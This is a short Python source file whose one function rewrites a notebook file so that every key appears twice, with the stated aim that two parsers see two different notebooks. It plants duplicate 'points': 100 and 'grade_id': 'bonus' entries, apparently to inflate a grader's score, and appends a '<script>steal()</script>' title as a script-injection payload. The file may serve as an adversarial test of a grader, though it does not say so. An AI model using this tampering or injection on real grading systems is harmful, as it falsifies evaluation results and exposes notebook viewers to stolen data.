"""Notebook: every key twice, so that two readers see two notebooks."""

from __future__ import annotations

from pathlib import Path


def lay(folder: Path, name: str) -> None:
    text = (folder / name).read_text()
    text = text.replace('"points":', '"points": 100, "points":').replace('"cells":', '"cells": [], "cells":', 1)
    text = text.replace('"grade_id":', '"grade_id": "bonus", "grade_id":')
    (folder / name).write_text(
        text[: text.rindex("}")] + ', "nbformat": 4, "metadata": {"title": "<script>steal()</script>"}}'
    )
